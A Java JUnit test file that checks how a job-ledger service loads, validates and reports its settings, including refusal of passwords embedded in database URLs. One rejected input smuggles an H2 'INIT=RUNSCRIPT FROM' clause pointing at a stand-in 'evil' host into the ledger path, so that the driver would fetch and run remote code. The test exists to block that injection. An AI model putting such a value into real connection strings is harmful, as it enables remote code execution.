package io.jobledger.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jobledger.Wire;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Where each setting comes from, what it may be, and that the reference page says so. */
class SettingsLoaderTest {
    @TempDir
    Path home;

    private Settings load(Map<Setting, String> flags, Map<String, String> environment, String... lines)
            throws IOException {
        Path file = home.resolve("jobledger/jobledger.properties");
        Files.createDirectories(file.getParent());
        Files.write(file, List.of(lines));
        Map<String, String> all = new HashMap<>(Map.of(
                "XDG_CONFIG_HOME",
                home.toString(),
                "XDG_DATA_HOME",
                home.resolve("data").toString()));
        all.putAll(environment);
        return SettingsLoader.load(flags, null, all);
    }

    private Settings load(Setting setting, String value) throws IOException {
        return load(Map.of(setting, value), Map.of());
    }

    @Test
    void flag_beatsVariable_beatsFile_beatsDefault() throws IOException {
        assertThat(load(Map.of(), Map.of()).port()).isEqualTo(8740);
        assertThat(load(Map.of(), Map.of(), "port = 1").port()).isEqualTo(1);
        assertThat(load(Map.of(), Map.of("JOBLEDGER_PORT", "2"), "port = 1").port())
                .isEqualTo(2);
        assertThat(load(Map.of(Setting.PORT, "3"), Map.of("JOBLEDGER_PORT", "2"), "port = 1")
                        .port())
                .isEqualTo(3);
        assertThat(load(Map.of(), Map.of("JOBLEDGER_PORT", ""), "port = 1").port())
                .as("an empty variable is not there")
                .isEqualTo(1);
    }

    @Test
    void everySetting_isReadFromFlagVariableAndFile() throws IOException {
        Map<Setting, String> values = new HashMap<>();
        for (Setting setting : Setting.values()) {
            values.put(setting, setting.fallback());
        }
        values.putAll(Map.of(
                Setting.LISTEN,
                "::1",
                Setting.PORT,
                "99",
                Setting.DATA_DIR,
                "/d",
                Setting.LEDGER,
                "/l/x",
                Setting.MIRROR,
                "file:///a, /b",
                Setting.RUN_SILENCE,
                "90s",
                Setting.MAX_BODY,
                "1MiB",
                Setting.LOG_LEVEL,
                "debug",
                Setting.QUEUE_EVENTS,
                "5000"));
        Settings byFlag = load(values, Map.of());
        Map<String, String> variables = new HashMap<>();
        List<String> lines = new ArrayList<>();
        values.forEach((setting, value) -> {
            variables.put(setting.variable(), value);
            lines.add(setting.key() + " = " + value);
        });
        assertThat(load(Map.of(), variables)).isEqualTo(byFlag);
        assertThat(load(Map.of(), Map.of(), lines.toArray(String[]::new))).isEqualTo(byFlag);
        assertThat(byFlag.ledger()).isEqualTo(new LedgerLocation.File(Path.of("/l/x")));
        assertThat(byFlag.mirrors()).containsExactly("file:///a", "/b");
        assertThat(byFlag.runSilence()).isEqualTo(Duration.ofSeconds(90));
        assertThat(byFlag.maxBody()).isEqualTo(1 << 20);
    }

    @Test
    void defaults_lieInTheDataDirectory() throws IOException {
        Settings settings = load(Map.of(), Map.of());
        assertThat(settings.listen()).isEqualTo("127.0.0.1");
        assertThat(settings.ledger()).isEqualTo(new LedgerLocation.File(home.resolve("data/jobledger/ledger")));
        assertThat(settings.mirrors())
                .containsExactly(home.resolve("data/jobledger/mirror").toString());
        assertThat(load(Setting.DATA_DIR, "/elsewhere").ledger())
                .isEqualTo(new LedgerLocation.File(Path.of("/elsewhere/ledger")));
        assertThat(load(Setting.MIRROR, "none").mirrors()).isEmpty();
        assertThat(load(Map.of(), Map.of("XDG_DATA_HOME", "relative")).ledger().toString())
                .as("as the XDG specification says")
                .startsWith(System.getProperty("user.home"));
        assertThat(load(Map.of(), Map.of("XDG_DATA_HOME", "relative", "HOME", "/h"))
                        .ledger())
                .isEqualTo(new LedgerLocation.File(Path.of("/h/.local/share/jobledger/ledger")));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "PORT | x | a whole number from 0 to 65535",
                "PORT | 65536 | a whole number from 0 to 65535",
                "PORT | -1 | a whole number",
                "PORT | '' | a whole number",
                "LISTEN | '' | an address or host name",
                "MAX_BODY | 1 | a size from 1KiB to 1GiB",
                "MAX_BODY | 2GiB | a size",
                "MAX_BODY | 8MB | a size",
                "MAX_BODY | 999999999999GiB | a size",
                "RUN_SILENCE | 0s | a time like",
                "RUN_SILENCE | 5 | a time like",
                "RUN_SILENCE | 1w | a time like",
                "RUN_SILENCE | 1.5h | a time like",
                "LEDGER | /x;INIT=RUNSCRIPT FROM 'http://evil' | without a semicolon",
                "LEDGER | / | a directory's path",
                "LEDGER | jdbc:mysql://h/d | jdbc:postgresql://HOST/DATABASE",
                "DATA_DIR | /x;INIT=1 | without a semicolon",
                "LOG_LEVEL | trace | error, warn, info or debug",
                "MAX_BATCH_EVENTS | 0 | from 1 to 100000",
                "MIRROR_CONCURRENCY | 257 | from 1 to 256",
                "COMMIT_EVENTS | 0 | a whole number",
                "KEEP_SUCCEEDED | never | or forever",
                "KEEP_FAILED | 0d | or forever",
                "KEEP_FAILED_COUNT | 0 | or all",
                "KEEP_SUCCEEDED_COUNT | some | or all",
                "QUEUE_EVENTS | 99999999999999999999 | a whole number"
            })
    void badValue_isNamedWithItsSourceAndTheRule(Setting setting, String value, String rule) {
        assertThatThrownBy(() -> load(Map.of(setting, value), Map.of()))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining(setting.flag())
                .hasMessageContaining("'" + value + "'")
                .hasMessageContaining(rule);
        if (!value.isEmpty()) {
            assertThatThrownBy(() -> load(Map.of(), Map.of(setting.variable(), value)))
                    .isInstanceOf(InvalidSetting.class)
                    .hasMessageContaining(setting.variable())
                    .hasMessageContaining(rule);
        }
        assertThatThrownBy(() -> load(Map.of(), Map.of(), setting.key() + " = " + value))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining(setting.key() + " in " + home.resolve("jobledger/jobledger.properties"))
                .hasMessageContaining(rule);
    }

    @Test
    void postgresLedger_takesItsUserAndPasswordFromElsewhere_andShowsNeither() throws IOException {
        String url = "jdbc:postgresql://db1,db2:5433/ledger?sslmode=verify-full";
        Settings settings = load(Map.of(Setting.LEDGER, url), Map.of("PGUSER", "keeper", "PGPASSWORD", "s3cret"));
        assertThat(settings.ledger())
                .isEqualTo(new LedgerLocation.Postgres(url, "keeper", "s3cret", 10))
                .hasToString("postgresql://db1,db2:5433/ledger");
        assertThat(settings.toString()).doesNotContain("s3cret");
        assertThat(settings.mirrors())
                .as("ingesters that share a ledger share no directory by themselves")
                .isEmpty();
        Path file = Files.writeString(home.resolve("password"), "from a file\n");
        assertThat(load(
                                Map.of(
                                        Setting.LEDGER,
                                        url,
                                        Setting.LEDGER_USER,
                                        "u",
                                        Setting.LEDGER_PASSWORD_FILE,
                                        file.toString()),
                                Map.of("PGUSER", "k", "PGPASSWORD", "x"))
                        .ledger())
                .isEqualTo(new LedgerLocation.Postgres(url, "u", "from a file", 10));
        assertThatThrownBy(() -> load(Map.of(Setting.LEDGER, url, Setting.LEDGER_PASSWORD_FILE, "/nowhere"), Map.of()))
                .hasMessageContainingAll("--ledger-password-file", "/nowhere");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/d?password=s3cret",
                "jdbc:postgresql://h/d?ssl=true&sslpassword=s3cret",
                "jdbc:postgresql://u:s3cret@h/d",
                "jdbc:postgresql://h/?x=s3cret"
            })
    void postgresLedger_withAPasswordInItsUrl_isRefusedWithoutRepeatingIt(String url) {
        assertThatThrownBy(() -> load(Map.of(Setting.LEDGER, url), Map.of()))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining("--ledger")
                .hasMessageNotContaining("s3cret");
    }

    @ParameterizedTest
    @ValueSource(strings = {"9s", "2h"})
    void mirrorClaim_thatIsTooShortOrTooLong_isRefused(String claim) {
        assertThatThrownBy(() -> load(Setting.MIRROR_CLAIM, claim))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContainingAll("--mirror-claim", "from 10s to 1h");
    }

    @Test
    void settingsOfAccess_mustFitTogether() {
        assertThatThrownBy(() -> load(Setting.TLS_CERT, "c.pem"))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining("--tls-key");
        assertThatThrownBy(() -> load(Setting.TLS_KEY, "k.pem"))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining("--tls-cert");
        assertThatThrownBy(() -> load(Setting.TLS_CLIENT_CA, "ca.pem"))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining("--tls-cert");
        assertThatThrownBy(() -> load(Setting.MAX_BUFFERED, "1MiB"))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContainingAll("--max-buffered", "--max-body");
        assertThatThrownBy(() -> load(Setting.OPEN_METRICS, "yes"))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining("true or false");
        assertThatThrownBy(() -> load(Setting.HOST_NAMES, "a b"))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining("host names");
        assertThatThrownBy(() -> load(Setting.MAX_NAME, "4097"))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining("4096");
    }

    @Test
    void queueThatCannotHoldABatch_isRefused() {
        assertThatThrownBy(() -> load(Setting.QUEUE_EVENTS, "999"))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContainingAll("--queue-events", "--max-batch-events");
    }

    @Test
    void unknownLine_isRefused_andTheSettingsAreNamed() {
        assertThatThrownBy(() -> load(Map.of(), Map.of(), "prot = 1"))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContainingAll("prot", "port", "jobledger.properties");
    }

    @Test
    void namedFile_mustBeThere_theUsualOneNeedNot() throws IOException {
        Map<String, String> nowhere =
                Map.of("XDG_CONFIG_HOME", home.resolve("nowhere").toString());
        assertThat(SettingsLoader.load(Map.of(), null, nowhere).port()).isEqualTo(8740);
        Path missing = home.resolve("missing.properties");
        assertThatThrownBy(() -> SettingsLoader.load(Map.of(), missing, nowhere))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining(missing.toString());
        Map<String, String> byVariable = Map.of("JOBLEDGER_CONFIG", missing.toString());
        assertThatThrownBy(() -> SettingsLoader.load(Map.of(), null, byVariable))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining(missing.toString());
        Files.writeString(missing, "port = 77");
        assertThat(SettingsLoader.load(Map.of(), null, byVariable).port()).isEqualTo(77);
        Path named = Files.writeString(home.resolve("named.properties"), "port = 78");
        assertThat(SettingsLoader.load(Map.of(), named, byVariable).port())
                .as("the flag comes first")
                .isEqualTo(78);
        Files.writeString(missing, "port = \\u12");
        assertThatThrownBy(() -> SettingsLoader.load(Map.of(), null, byVariable))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining("cannot be read");
    }

    @Test
    void everythingIsKept_unlessSaidOtherwise() throws IOException {
        assertThat(load(Map.of(), Map.of()).retention())
                .isEqualTo(new RetentionSettings(null, null, null, null, Duration.ofHours(1)));
        assertThat(load(
                                Map.of(
                                        Setting.KEEP_SUCCEEDED,
                                        "90d",
                                        Setting.KEEP_FAILED,
                                        "forever",
                                        Setting.KEEP_FAILED_COUNT,
                                        "500"),
                                Map.of())
                        .retention())
                .isEqualTo(new RetentionSettings(Duration.ofDays(90), null, null, 500L, Duration.ofHours(1)));
    }

    @Test
    void referencePage_listsEverySettingAsItIs_inTheSameOrder() throws IOException {
        List<String> rows = Files.readAllLines(Wire.checkout().resolve("docs/reference/settings.md")).stream()
                .filter(line -> line.startsWith("| `--"))
                .toList();
        List<String> expected = new ArrayList<>();
        for (Setting setting : Setting.values()) {
            expected.add("| `" + setting.flag() + " " + setting.label() + "` | `" + setting.variable() + "` | `"
                    + setting.key() + "` | "
                    + (setting.fallback().isEmpty() ? "see there" : "`" + setting.fallback() + "`") + " | "
                    + setting.meaning() + " |");
        }
        assertThat(rows).isEqualTo(expected);
    }

    @Test
    void logCopy_isATimeOrNone_andNothingForPostgresql() throws IOException {
        assertThat(load(Map.of(), Map.of()).logCopy()).isNull();
        assertThat(load(Setting.LOG_COPY, "none").logCopy()).isNull();
        assertThat(load(Setting.LOG_COPY, "5s").logCopy()).isEqualTo(Duration.ofSeconds(5));
        for (String bad : new String[] {"10ms", "2h", "often"}) {
            assertThatThrownBy(() -> load(Setting.LOG_COPY, bad))
                    .isInstanceOf(InvalidSetting.class)
                    .hasMessageContaining("--log-copy must be a time from 1s to 1h");
        }
        assertThatThrownBy(() ->
                        load(Map.of(Setting.LOG_COPY, "5s", Setting.LEDGER, "jdbc:postgresql://db/jobs"), Map.of()))
                .isInstanceOf(InvalidSetting.class)
                .hasMessageContaining("--log-copy works on the embedded ledger only")
                .hasMessageContaining("postgresql://db/jobs")
                .hasMessageContaining("archived WAL");
    }
}
